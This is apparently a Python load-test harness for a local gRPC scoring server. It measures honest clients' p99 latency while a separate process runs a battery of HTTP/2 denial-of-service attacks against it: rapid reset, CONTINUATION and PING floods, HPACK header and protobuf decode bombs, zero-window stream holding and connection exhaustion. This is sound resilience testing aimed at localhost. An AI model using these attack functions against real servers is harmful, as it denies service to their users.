"""Measure the effect of attacks on honest clients: their p99 during each attack over their p99 without one.

    python -m loadtests.attacks                     # every attack, for some seconds
    python -m loadtests.attacks --attack stray-frames --seconds 10
    python -m loadtests.attacks --from 127.0.0.1    # the attacker shares the honest clients' address

The server runs on one core. Honest clients send `Noop` at a fixed rate from another core. The attacker is a
separate process with another address unless `--from` sets it. Each attack has a new server. Before each
attack the same load is measured without it. The attack begins with the measurement, after the honest clients
have connected, so its first moments, before any limit acts, count. Memory is the largest of the server during
the attack.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from loadtests.figures import ROOT
from loadtests.openloop import Load, Method, cores, on_generators_core

TARGET_RATIO: Final = 1.5
WARMUP_SECONDS: Final = 0.5
NOOP: Final = "/scorer.v1.ScoringService/Noop"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4

SERVER: Final = """
[server]
listen = "127.0.0.1:0"
control_listen = "127.0.0.1:0"
metrics_listen = "127.0.0.1:0"
state_dir = "{directory}/state"
[registry]
path = "{directory}/registry"
[log]
dir = "off"
[checkpoints."fraud.checkout"]
kind = "score"
alias = "fraud-checkout@live"
p99_ms = 10.0
"""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def request(path: str = NOOP, **more: str) -> bytes:
    """Return a header block of literals that do not change the dynamic table."""
    fields = {":path": path, ":authority": "scorer", "content-type": "application/grpc", "te": "trailers"}
    fields |= {name.replace("_", "-"): value for name, value in more.items()}
    block = b"\x83\x86"
    for name, value in fields.items():
        block += b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return block


class Attacker:
    """Connections of one attack."""

    def __init__(self, target: str, source: str, metrics: str) -> None:
        self._target, self._source, self._metrics = target, source, metrics

    def raw(self, *, metrics: bool = False) -> socket.socket:
        """Open a TCP connection."""
        host, _, port = (self._metrics if metrics else self._target).rpartition(":")
        return socket.create_connection((host, int(port)), timeout=1.0, source_address=(self._source, 0))

    def open(self, **settings: int) -> socket.socket:
        """Open a connection and send its preface; `window` is SETTINGS_INITIAL_WINDOW_SIZE."""
        payload = struct.pack(">HI", 4, settings["window"]) if "window" in settings else b""
        stream = self.raw()
        preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        stream.sendall(preface + frame(SETTINGS, 0, 0, payload) + frame(SETTINGS, 1, 0))
        return stream


def _drained(stream: socket.socket) -> bool:
    """Read the available data, and return whether the connection is still open."""
    stream.setblocking(False)
    try:
        while data := stream.recv(1 << 16):
            del data
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        stream.settimeout(1.0)
    return False


def _holding(attacker: Attacker, calls: bytes, **settings: int) -> None:
    """Hold eight connections with 256 calls each, and open them again when the server closes them."""
    streams: list[socket.socket] = []
    while True:
        streams = [stream for stream in streams if _drained(stream)]
        while len(streams) < 8:
            stream = attacker.open(**settings)
            stream.sendall(calls)
            streams.append(stream)
        time.sleep(0.02)


def window_zero(attacker: Attacker) -> None:
    """Do not accept replies (a window of zero)."""
    message = b"\x00\x00\x00\x00\x00"
    calls = (
        frame(HEADERS, END_HEADERS, stream, request()) + frame(DATA, END_STREAM, stream, message)
        for stream in range(1, 512, 2)
    )
    _holding(attacker, b"".join(calls), window=0)


def no_body(attacker: Attacker) -> None:
    """Start calls without sending their messages, with a deadline of a year."""
    block = request(grpc_timeout="9999H")
    _holding(attacker, b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 512, 2)))


def _flooding(attacker: Attacker, first: bytes, flood: Callable[[int], bytes], *, reads: bool) -> None:
    """Send on one connection as fast as possible, and open it again when the server closes it."""
    while True:
        stream = attacker.open()
        with stream, suppress(OSError):
            stream.sendall(first)
            turn = 0
            while True:
                stream.sendall(flood(turn))
                turn += 1
                if reads and not _drained(stream):
                    break


def stray_frames(attacker: Attacker) -> None:
    """Send frames of closed streams, without reading."""
    first = frame(HEADERS, END_HEADERS | END_STREAM, 2_100_001, request())

    def flood(turn: int) -> bytes:
        return b"".join(frame(DATA, 0, 1 + 2 * (turn * 1000 + number)) for number in range(1000))

    _flooding(attacker, first, flood, reads=False)


def rapid_reset(attacker: Attacker) -> None:
    """Send requests and cancel them immediately."""
    block = request()

    def flood(turn: int) -> bytes:
        cancel = struct.pack(">I", 8)
        streams = range(1 + 400 * turn, 1 + 400 * (turn + 1), 2)
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)
            for stream in streams
        )

    _flooding(attacker, b"", flood, reads=True)


def pings(attacker: Attacker) -> None:
    """Send PING frames as fast as possible."""
    flood = frame(PING, 0, 0, bytes(8)) * 1000
    _flooding(attacker, b"", lambda _: flood, reads=True)


def settings(attacker: Attacker) -> None:
    """Send SETTINGS frames as fast as possible, without reading."""
    flood = frame(SETTINGS, 0, 0) * 1000
    _flooding(attacker, b"", lambda _: flood, reads=False)


def window_updates(attacker: Attacker) -> None:
    """Send WINDOW_UPDATE frames as fast as possible."""
    first = frame(HEADERS, END_HEADERS, 1, request())
    flood = frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 1000
    _flooding(attacker, first, lambda _: flood, reads=True)


def continuation(attacker: Attacker) -> None:
    """Send header blocks without an end."""
    flood = frame(CONTINUATION, 0, 1, b"\x00\x01x\x64" + b"y" * 100) * 1000
    _flooding(attacker, frame(HEADERS, 0, 1, request()), lambda _: flood, reads=True)


def header_bomb(attacker: Attacker) -> None:
    """Send header blocks that refer to one large entry of the dynamic table many times."""
    entry = request() + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, entry)

    def flood(turn: int) -> bytes:
        block = request() + b"\xbe" * 8000
        streams = range(3 + 40 * turn, 3 + 40 * (turn + 1), 2)
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in streams)

    _flooding(attacker, first, flood, reads=True)


def decode_bomb(attacker: Attacker) -> None:
    """Send `ModelInfer` requests of 1 MiB with empty inputs."""
    message = b"\x2a\x00" * 524_000
    body = b"\x00" + struct.pack(">I", len(message)) + message
    block = request("/inference.GRPCInferenceService/ModelInfer")

    def flood(turn: int) -> bytes:
        stream = 1 + 2 * turn
        parts = [body[start : start + 16_384] for start in range(0, len(body), 16_384)]
        data = b"".join(frame(DATA, 0, stream, part) for part in parts[:-1])
        return frame(HEADERS, END_HEADERS, stream, block) + data + frame(DATA, END_STREAM, stream, parts[-1])

    _flooding(attacker, b"", flood, reads=True)


def connections(attacker: Attacker) -> None:
    """Open connections and send nothing, as many as possible."""
    held: list[socket.socket] = []
    while True:
        with suppress(OSError):
            held.append(attacker.raw())
        if len(held) > 500:
            held.pop(0).close()


def scrapes(attacker: Attacker) -> None:
    """Request the metrics all the time, and hold connections with incomplete requests."""
    held = [attacker.raw(metrics=True) for _ in range(10)]
    while True:
        with suppress(OSError), attacker.raw(metrics=True) as stream:
            stream.sendall(b"GET /metrics HTTP/1.1\r\nhost: scorer\r\nconnection: close\r\n\r\n")
            while stream.recv(1 << 16):
                pass
        held.append(attacker.raw(metrics=True))
        held.pop(0).close()


ATTACKS: Final[dict[str, Callable[[Attacker], None]]] = {
    "none": lambda _: time.sleep(3600),
    "window-zero": window_zero,
    "no-body": no_body,
    "stray-frames": stray_frames,
    "rapid-reset": rapid_reset,
    "pings": pings,
    "settings": settings,
    "window-updates": window_updates,
    "continuation": continuation,
    "header-bomb": header_bomb,
    "decode-bomb": decode_bomb,
    "connections": connections,
    "scrapes": scrapes,
}


@dataclass(frozen=True, slots=True)
class Server:
    """A running server."""

    pid: int
    grpc: str
    metrics: str

    def resident(self) -> int:
        """Return the resident memory of the server in bytes."""
        return int(Path(f"/proc/{self.pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")


@contextmanager
def serving(directory: Path) -> Iterator[Server]:
    """Run `scorer serve` without a bundle, on its own core."""
    (directory / "registry").mkdir()
    config, events = directory / "scorer.toml", directory / "events.jsonl"
    config.write_text(SERVER.format(directory=directory))
    with events.open("wb") as sink:
        process = subprocess.Popen(
            [sys.executable, "-m", "scorer.cli", "serve", "--config", str(config)],
            stderr=sink,
        )
    # Set before the process has started a thread.
    os.sched_setaffinity(process.pid, {cores()[0]})
    try:
        deadline = time.monotonic() + 30.0
        while True:
            lines = (json.loads(line) for line in events.read_text().splitlines() if line.startswith("{"))
            started = next((line for line in lines if line.get("event") == "started"), None)
            if started is not None:
                addresses = started["addresses"]
                yield Server(process.pid, addresses["grpc"][0], addresses["metrics"])
                return
            if time.monotonic() > deadline or process.poll() is not None:
                raise RuntimeError(f"the server does not start; its events:\n{events.read_text()}")
            time.sleep(0.05)
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(30)


@contextmanager
def attacked(server: Server, name: str, source: str) -> Iterator[tuple[Callable[[], None], list[int]]]:
    """Prepare an attack as a process. Yield a function that starts it and samples of the server's memory."""
    command = [sys.executable, "-m", "loadtests.attacks", "--be", name, server.grpc, server.metrics, source]
    process = subprocess.Popen(command, cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert process.stdin is not None and process.stdout is not None
    go = process.stdin
    # Wait until the process is ready.
    process.stdout.readline()
    samples, ended = [server.resident()], threading.Event()

    def begin() -> None:
        go.write(b"\n")
        go.flush()

    def sample() -> None:
        while not ended.wait(0.02):
            samples.append(server.resident())

    sampling = threading.Thread(target=sample)
    sampling.start()
    try:
        yield begin, samples
        if process.poll() is not None:
            raise RuntimeError(f"the attack {name} ended by itself")
    finally:
        ended.set()
        sampling.join()
        process.kill()
        process.wait()
        go.close()
        process.stdout.close()


def measure(server: Server, name: str, source: str, rate: float, seconds: float) -> bool:
    """Print the line of one attack, and return whether every honest call succeeded."""
    load = Load(target=server.grpc, methods=[Method(name="noop", path=NOOP, requests=[b""])], connections=4)
    before = load.run(rate, seconds, warmup_seconds=WARMUP_SECONDS)
    with attacked(server, name, source) as (begin, samples), ThreadPoolExecutor(1) as pool:
        running = pool.submit(load.run, rate, seconds, warmup_seconds=WARMUP_SECONDS)
        time.sleep(WARMUP_SECONDS)
        begin()
        beside = running.result()
    ratio = beside.latency_us.p99 / max(before.latency_us.p99, 1)
    failed = beside.requests - beside.answered
    grown = (max(samples) - samples[0]) / (1 << 20)
    mark = "" if ratio <= TARGET_RATIO else f"  above {TARGET_RATIO}"
    print(
        f"{name:16} {before.latency_us.p99 / 1e3:9.2f} ms {beside.latency_us.p99 / 1e3:9.2f} ms "
        f"{ratio:7.2f} {failed:7} {grown:+6.1f} MiB{mark}",
        flush=True,
    )
    return failed == 0


def main(arguments: Sequence[str] | None = None) -> int:
    """Run the command line, and return the exit code."""
    parser = argparse.ArgumentParser(prog="python -m loadtests.attacks", description=__doc__)
    parser.add_argument(
        "--attack", action="append", choices=sorted(ATTACKS), help="attack to run; repeatable, default: all"
    )
    parser.add_argument("--seconds", type=float, default=3.0, help="length of each measurement in seconds")
    parser.add_argument("--rate", type=float, default=500.0, help="requests of honest clients per second")
    parser.add_argument("--from", dest="source", default="127.0.0.2", help="address of the attacker")
    parser.add_argument("--be", nargs=4, metavar=("NAME", "GRPC", "METRICS", "FROM"), help=argparse.SUPPRESS)
    options = parser.parse_args(arguments)
    if options.be:
        name, target, metrics, source = options.be
        # The generator runs on the same core, and waiting for that core would count as delay of the server.
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        attacker = Attacker(target, source, metrics)
        print("ready", flush=True)
        sys.stdin.readline()
        while True:
            # After the server has closed a connection, the attack continues with another.
            with suppress(OSError):
                ATTACKS[name](attacker)
            time.sleep(0.01)
    print(f"{'attack':16} {'p99 without':>12} {'p99 during':>12} {'ratio':>7} {'failed':>7} {'memory':>10}")
    clean = True
    for name in options.attack or list(ATTACKS):
        with (
            tempfile.TemporaryDirectory(prefix="attacks-") as scratch,
            on_generators_core(),
            serving(Path(scratch)) as server,
        ):
            clean &= measure(server, name, options.source, options.rate, options.seconds)
    return 0 if clean else 1


if __name__ == "__main__":
    sys.exit(main())
